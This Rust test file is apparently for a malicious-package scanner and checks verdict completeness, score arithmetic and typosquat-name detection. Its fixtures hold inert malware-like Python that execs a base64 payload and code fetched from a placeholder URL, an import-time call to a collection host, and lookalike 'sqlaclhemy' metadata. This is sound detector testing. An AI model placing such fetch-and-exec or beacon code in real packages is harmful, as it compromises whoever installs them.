//! What must hold of every verdict: nothing unread is called clean, and the score can be added up again.
#![expect(clippy::expect_used, reason = "a test without a thread to run on has failed")]

use venin_model::{Persona, Verdict};
use venin_rules::RuleSet;
use venin_scan::{Input, Options, Scan, Scanner, TreeMember, judge, thresholds};

fn scan(options: Options, members: Vec<TreeMember>) -> Scan {
    let run = move || {
        Scanner::new(RuleSet::builtin(), options).scan(&Input::Tree { name: "example", members: &members })
    };
    let thread = std::thread::Builder::new().stack_size(512 << 20).spawn(run).expect("a thread starts");
    thread.join().expect("the scan does not panic")
}

fn member(path: &str, text: &str) -> TreeMember {
    TreeMember { path: path.to_owned(), bytes: text.as_bytes().to_vec() }
}

/// A decoded payload that import runs; all it does is print.
const LOUD: &str = "import base64\nexec(base64.b64decode('cHJpbnQoImhlbGxvIik='))\n\
                    import os, urllib.request\n\
                    exec(urllib.request.urlopen('http://example.invalid/a').read())\n\
                    os.system('echo hello')\n";

#[test]
fn a_gap_is_never_clean() {
    for persona in [Persona::Registry, Persona::Team, Persona::Research] {
        let below = thresholds(persona).suspicious - 1.0;
        assert_eq!(judge(below, persona, true), Verdict::Clean);
        assert_eq!(judge(below, persona, false), Verdict::Incomplete);
    }
}

#[test]
fn code_left_unread_for_want_of_budget_is_never_clean() {
    let quiet = "total = 0\nfor n in range(1000):\n    total += n\n";
    let whole = scan(Options::default(), vec![member("pkg/__init__.py", quiet)]);
    assert!(whole.coverage.is_complete());
    assert_eq!(whole.verdict, Verdict::Clean);

    let mut options = Options::default();
    options.limits.steps = 5;
    let cut = scan(options, vec![member("pkg/__init__.py", quiet)]);
    assert!(!cut.coverage.is_complete(), "{:?}", cut.coverage);
    assert_eq!(cut.verdict, Verdict::Incomplete);
}

#[test]
fn the_shares_add_up_to_the_score() {
    let called = format!("def run():\n    {}\n", LOUD.trim_end().replace('\n', "\n    "));
    let scan = scan(Options::default(), vec![member("setup.py", LOUD), member("pkg/later.py", &called)]);
    assert!(scan.findings.len() > 1, "{:?}", scan.findings);
    assert_eq!(scan.shares.len(), scan.findings.len());
    let total = scan.shares.iter().fold(scan.prior, |sum, share| sum + share.log_odds);
    assert_eq!(total.to_bits(), scan.score.to_bits(), "{} is shown, {total} adds up", scan.score);
    for (share, finding) in scan.shares.iter().zip(&scan.findings) {
        assert_eq!(share.rule, finding.rule);
    }
}

/// A misspelt name, another's repository and description, a version that wins: everything but code.
const ALL_METADATA: &str = "Metadata-Version: 2.1\nName: sqlaclhemy\nVersion: 999.0.0\nAuthor: Your Name\n\
                            Home-page: https://code.example/owner/botocore\n\npip install botocore\n";

#[test]
fn names_and_metadata_alone_are_never_malicious() {
    let quiet = || vec![member("PKG-INFO", ALL_METADATA), member("pkg/__init__.py", "VALUE = 1\n")];
    for persona in [Persona::Registry, Persona::Team, Persona::Research] {
        let options = Options { persona, ..Options::default() };
        let scan = scan(options, quiet());
        assert!(scan.findings.len() >= 4, "{:?}", scan.findings);
        assert_ne!(scan.verdict, Verdict::Malicious);
    }
}

#[test]
fn a_lure_makes_code_that_acts_at_import_weigh_more() {
    let acting = |name: &str| {
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        let code = "import urllib.request\nurllib.request.urlopen('https://collect.example/imported')\n";
        let built = "[build-system]\nrequires = []\n";
        let members = [("PKG-INFO", &*metadata), ("pyproject.toml", built), ("pkg/__init__.py", code)];
        scan(Options::default(), members.map(|(path, text)| member(path, text)).to_vec())
    };
    assert!(acting("sqlaclhemy").score > acting("zz-inert").score + 2.0);
}

#[test]
fn the_names_of_internal_projects_are_the_users_own() {
    let found = |internal: &[&str], name: &str| {
        let internal_names = internal.iter().map(|n| (*n).to_owned()).collect();
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        let scan = scan(
            Options { internal_names, ..Options::default() },
            vec![member("PKG-INFO", &metadata), member("pkg/__init__.py", "VALUE = 1\n")],
        );
        scan.findings.iter().any(|f| &*f.rule == "mistyped-name")
    };
    assert!(found(&["Acme_Billing"], "acme-billing"), "the same name");
    assert!(found(&["other", "acme-billing"], "acme-biling"), "a misspelt one");
    assert!(found(&["acme-billing"], "billing-acme"), "another order");
    assert!(!found(&["acme-billing"], "acme-reporting"));
    assert!(!found(&[], "acme-billing"));
}
